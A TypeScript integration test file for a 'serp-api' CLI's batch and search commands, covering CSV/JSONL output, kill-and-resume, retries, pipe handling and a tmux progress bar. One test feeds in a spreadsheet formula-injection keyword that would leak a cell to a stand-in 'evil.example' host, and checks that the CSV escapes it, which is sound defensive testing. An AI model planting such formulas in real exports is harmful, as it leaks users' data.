import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { fixturesMissing } from '../support/fixtures.js';
import { cliArgs, cliResult, removeDir, startStack, tempDataDir } from '../support/service.js';

/**
 * `serp-api batch` and `serp-api search` against a running service (real HTTP, real CLI processes), the progress bar
 * under tmux, a kill -9 in the middle of a batch and its resume.
 */
const missing = fixturesMissing('serp');
// every CLI this file starts polls its jobs every 200 ms, not every 1.5–2 s (SERP_CLIENT_POLL_MS, docs/configuration.md):
// a search against the fake Google ends within a second, so the default interval was most of each keyword's time
const POLL = { SERP_CLIENT_POLL_MS: '200' };
Object.assign(process.env, POLL);
if (missing) {
  t.plan(0, missing);
} else {
  const stack = await startStack(t, { google: { latencyMs: 20 } });
  const url = stack.svc.url;
  const { key } = await stack.mintKey(['--tier', 'pro', '--rate', '600']);
  const dir = tempDataDir('serp-batch');
  t.teardown(() => removeDir(dir));
  const keywordsFile = (name: string, keywords: string[]) => {
    const f = join(dir, name);
    writeFileSync(f, `# keywords\n${keywords.join('\n')}\n\n`);
    return f;
  };
  /** how often the fake origin was asked each keyword's first page */
  const firstPages = (keywords: string[]) =>
    keywords.map(
      (k) => stack.google.searches().filter((r) => r.query.q === k && (r.query.start ?? '0') === '0').length,
    );

  t.test('batch › JSONL: every keyword once, whole results, a summary with the rate', async (t) => {
    // six keywords, each a whole top 100 (ten pages): more than the four in flight at once, so the batch queues
    const keywords = Array.from({ length: 6 }, (_, i) => `batch jsonl ${i}`);
    const out = join(dir, 'a.jsonl');
    const res = await cliResult(
      [
        'batch',
        keywordsFile('a.txt', [...keywords, keywords[0]]),
        '--out',
        out,
        '--base-url',
        url,
        '--concurrency',
        '4',
      ],
      { SERP_API_KEY: key },
    );
    t.equal(res.code, 0, res.stderr.slice(-500));
    const lines = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    t.same(lines.map((l) => l.keyword).sort(), [...keywords].sort(), 'each keyword once (the duplicate line too)');
    t.ok(
      lines.every((l) => l.status === 'done' && l.result.organic_results.length >= 90),
      'whole results',
    );
    t.match(
      res.stderr,
      /batch: 6\/6 keywords done \(0 failed\) in [\d.]+ s: 6 submits at [\d.]+\/min \(key allows 600\/min; \d+ from cache\), [\d.]+ keywords done\/min/,
    );
    t.match(
      res.stderr,
      /batch: \d+\/6 done, 0 failed \| submits [\d.]+\/min \(key allows 600\/min; \d+ from cache\) \| done [\d.]+\/min/,
      'plain progress lines when stderr is not a terminal',
    );
    t.same(
      firstPages(keywords),
      keywords.map(() => 1),
      'no keyword searched twice',
    );
  });

  t.test('batch › CSV: one row per organic result', async (t) => {
    const keywords = ['batch csv one', 'batch csv two'];
    const out = join(dir, 'b.csv');
    const res = await cliResult([
      'batch',
      keywordsFile('b.txt', keywords),
      '--out',
      out,
      '--base-url',
      url,
      '--key',
      key,
    ]);
    t.equal(res.code, 0, res.stderr.slice(-500));
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    t.same(Object.keys(rows[0]), ['keyword', 'position', 'title', 'link', 'domain']);
    for (const k of keywords) {
      const mine = rows.filter((r) => r.keyword === k);
      t.ok(mine.length >= 90, `${k}: ${mine.length} rows`);
      t.same(
        mine.slice(0, 3).map((r) => Number(r.position)),
        [1, 2, 3],
      );
      t.ok(mine.every((r) => r.link.startsWith('http') && r.domain && !r.domain.startsWith('www.')));
    }
    const again = await cliResult([
      'batch',
      keywordsFile('b.txt', keywords),
      '--out',
      out,
      '--base-url',
      url,
      '--key',
      key,
    ]);
    t.equal(again.code, 1, 'an existing output is not overwritten');
    t.match(again.stderr, /exists: pass --resume/);
  });

  t.test('batch › CSV: a keyword that is a spreadsheet formula lands as text', async (t) => {
    const keyword = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const out = join(dir, 'formula.csv');
    // one page (--depth 10): every row of it carries the keyword; the whole top 100 is the test above
    const res = await cliResult([
      'batch',
      keywordsFile('formula.txt', [keyword]),
      '--out',
      out,
      '--depth',
      '10',
      '--base-url',
      url,
      '--key',
      key,
    ]);
    t.equal(res.code, 0, res.stderr.slice(-500));
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    t.ok(rows.length >= 5, `${rows.length} rows`);
    t.ok(
      rows.every((r) => r.keyword === `'${keyword}`),
      'the keyword cell starts with a quote mark, so no spreadsheet runs it',
    );
  });

  t.test('batch › kill -9 in the middle, then --resume: every keyword, none searched twice', async (t) => {
    const keywords = Array.from({ length: 24 }, (_, i) => `batch resume ${i}`);
    const file = keywordsFile('c.txt', keywords);
    const out = join(dir, 'c.jsonl');
    // one page a keyword (--depth 10): the subject is the resume, not the crawl
    const args = [...cliArgs, 'batch', file, '--out', out, '--depth', '10'];
    // 120 submits a minute: one every 0.5 s, so the batch is still running when it is killed
    const child = spawn(process.execPath, [...args, '--base-url', url, '--rate', '120', '--concurrency', '3'], {
      env: { ...process.env, SERP_API_KEY: key },
      stdio: 'ignore',
    });
    const state = `${out}.state`;
    const deadline = Date.now() + 30_000;
    while (Date.now() < deadline) {
      const n = existsSync(state)
        ? readFileSync(state, 'utf8')
            .split('\n')
            .filter((l) => l.includes('"job"')).length
        : 0;
      if (n >= 6) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    const before = existsSync(out) ? readFileSync(out, 'utf8').trim().split('\n').filter(Boolean).length : 0;
    t.ok(before < keywords.length, `killed with ${before} of ${keywords.length} written`);
    const res = await cliResult(['batch', file, '--out', out, '--depth', '10', '--base-url', url, '--resume'], {
      SERP_API_KEY: key,
    });
    t.equal(res.code, 0, res.stderr.slice(-500));
    const lines = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    t.same(lines.map((l) => l.keyword).sort(), [...keywords].sort(), 'every keyword exactly once in the output');
    t.same(
      firstPages(keywords),
      keywords.map(() => 1),
      'and each searched once: jobs submitted before the kill were polled',
    );
  });

  t.test('batch › a 503 from the service is retried with backoff', async (t) => {
    // a proxy in front of the service that fails the first two submits
    let failures = 2;
    const proxy = createServer(async (req, res) => {
      const chunks: Buffer[] = [];
      for await (const c of req) chunks.push(c as Buffer);
      if (req.method === 'POST' && failures > 0) {
        failures--;
        res.writeHead(503, { 'content-type': 'application/json' }).end('{"detail":"busy","code":"X"}');
        return;
      }
      const upstream = await fetch(`${url}${req.url}`, {
        method: req.method,
        headers: { 'x-api-key': String(req.headers['x-api-key'] ?? ''), 'content-type': 'application/json' },
        body: req.method === 'POST' ? Buffer.concat(chunks) : undefined,
      });
      res.writeHead(upstream.status, { 'content-type': 'application/json' }).end(await upstream.text());
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', () => r()));
    t.teardown(() => proxy.close());
    const port = (proxy.address() as { port: number }).port;
    const out = join(dir, 'd.jsonl');
    const res = await cliResult(
      [
        'batch',
        keywordsFile('d.txt', ['batch retry']),
        '--out',
        out,
        '--depth',
        '10',
        '--base-url',
        `http://127.0.0.1:${port}`,
      ],
      { SERP_API_KEY: key },
    );
    t.equal(res.code, 0, res.stderr.slice(-500));
    t.equal(failures, 0, 'both 503s were met');
    t.match(res.stderr, /retrying: busy/);
    t.equal(JSON.parse(readFileSync(out, 'utf8')).status, 'done');
  });

  t.test('search › one keyword, the result on stdout', async (t) => {
    const res = await cliResult(
      ['search', 'batch single', '--depth', '10', '--base-url', url, '--device', 'mobile', '--output', 'compat'],
      {
        SERP_API_KEY: key,
      },
    );
    t.equal(res.code, 0, res.stderr.slice(-500));
    t.equal(res.stdout.trimEnd().split('\n').length, 1, 'into a pipe: the whole result on one line');
    const body = JSON.parse(res.stdout) as { search_metadata: { status: string }; organic_results: unknown[] };
    t.equal(body.search_metadata.status, 'Success', 'the compat envelope');
    t.ok(body.organic_results.length > 0);
    const nokey = await cliResult(['search', 'x', '--base-url', url], { SERP_API_KEY: '' });
    t.equal(nokey.code, 1);
    t.match(nokey.stderr, /no API key/);
  });

  t.test('search › piped into head: exits quietly when the reader goes away', async (t) => {
    // `serp-api search … | head -c 100`: head closes the pipe after 100 bytes of a ~100 kB result; the next write
    // fails with EPIPE, which must end the CLI without a stack trace
    const script = `set -o pipefail; "$0" ${cliArgs.map((a) => `'${a}'`).join(' ')} search 'batch single' --base-url '${url}' | head -c 100`;
    // asynchronous: the fake Google this search reaches answers from this process
    const res = await new Promise<{ status: number | null; stdout: string; stderr: string }>((done) => {
      const child = spawn('bash', ['-c', script, process.execPath], {
        cwd: process.cwd(),
        env: { ...process.env, SERP_API_KEY: key },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => {
        stdout += d;
      });
      child.stderr.on('data', (d) => {
        stderr += d;
      });
      child.on('close', (status) => done({ status, stdout, stderr }));
    });
    t.equal(res.status, 0, 'the pipeline succeeds: serp-api exits 0 too (pipefail)');
    t.equal(res.stdout.length, 100, "head got the result's first bytes");
    t.notMatch(res.stderr, /EPIPE|Error|at /, `nothing on stderr but notes: ${res.stderr.slice(0, 300)}`);
  });

  const tmux = spawnSync('tmux', ['-V']).status === 0;
  // a tmux server already running gives a new session its own environment, not this process's
  const pollEnv = `env SERP_CLIENT_POLL_MS=${POLL.SERP_CLIENT_POLL_MS}`;
  if (!tmux && process.env.CI === 'true') throw new Error('tmux is required under CI (.ci/run installs it)');
  t.test('batch › the progress bar on a terminal (tmux)', { skip: tmux ? false : 'tmux not installed' }, async (t) => {
    const keywords = Array.from({ length: 20 }, (_, i) => `batch bar ${i}`);
    const file = keywordsFile('e.txt', keywords);
    const out = join(dir, 'e.jsonl');
    const session = `serpbar${process.pid}`;
    const cmd = [
      process.execPath,
      ...cliArgs,
      'batch',
      file,
      '--out',
      out,
      '--base-url',
      url,
      '--key',
      key,
      '--rate',
      '300',
      '--concurrency',
      '4',
      '--depth',
      '10',
    ]
      .map((a) => `'${a}'`)
      .join(' ');
    spawnSync('tmux', ['new-session', '-d', '-s', session, '-x', '160', '-y', '12', `${pollEnv} ${cmd}; sleep 30`]);
    t.teardown(() => void spawnSync('tmux', ['kill-session', '-t', session]));
    let screen = '';
    let sawBar = false;
    const deadline = Date.now() + 60_000;
    while (Date.now() < deadline) {
      screen = spawnSync('tmux', ['capture-pane', '-p', '-t', session]).stdout.toString();
      if (
        /batch [█░]+ \d+\/20 \| submits [\d.]+\/min \(key allows 300\/min\) \| done [\d.]+\/min \| ETA \S+ \| failed 0/.test(
          screen,
        )
      )
        sawBar = true;
      if (screen.includes('20/20 keywords done')) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    t.ok(sawBar, 'a bar with the count, the rate against the key’s, the ETA and failures');
    t.match(screen, /batch: 20\/20 keywords done \(0 failed\)/, `the summary:\n${screen}`);
    t.notMatch(screen, /batch: \d+\/20 done,/, 'no plain progress lines on a terminal');
  });

  t.test('search › on a terminal (tmux): indented JSON', { skip: tmux ? false : 'tmux not installed' }, async (t) => {
    const session = `serpsearch${process.pid}`;
    const cmd = [process.execPath, ...cliArgs, 'search', 'batch single', '--depth', '10', '--base-url', url]
      .map((a) => `'${a}'`)
      .join(' ');
    spawnSync('tmux', [
      'new-session',
      '-d',
      '-s',
      session,
      '-x',
      '160',
      '-y',
      '12',
      `${pollEnv} ${cmd} --key '${key}'; sleep 30`,
    ]);
    t.teardown(() => void spawnSync('tmux', ['kill-session', '-t', session]));
    let screen = '';
    const deadline = Date.now() + 60_000;
    // the whole scrollback, until the result's closing brace
    while (Date.now() < deadline && !/^}$/m.test(screen)) {
      await new Promise((r) => setTimeout(r, 100));
      // without the blanks a pane may pad its lines with
      screen = spawnSync('tmux', ['capture-pane', '-p', '-J', '-S', '-', '-t', session])
        .stdout.toString()
        .replace(/[ \t]+$/gm, '');
    }
    // the pane keeps the result's last 2,000 lines: its end, indented, one field a line
    t.match(screen, /^ {2,}"[a-z_]+": .+,$/m, `indented, a field a line:\n${screen.slice(-400)}`);
    t.match(screen, /^}$/m, 'closed on a line of its own');
  });
}
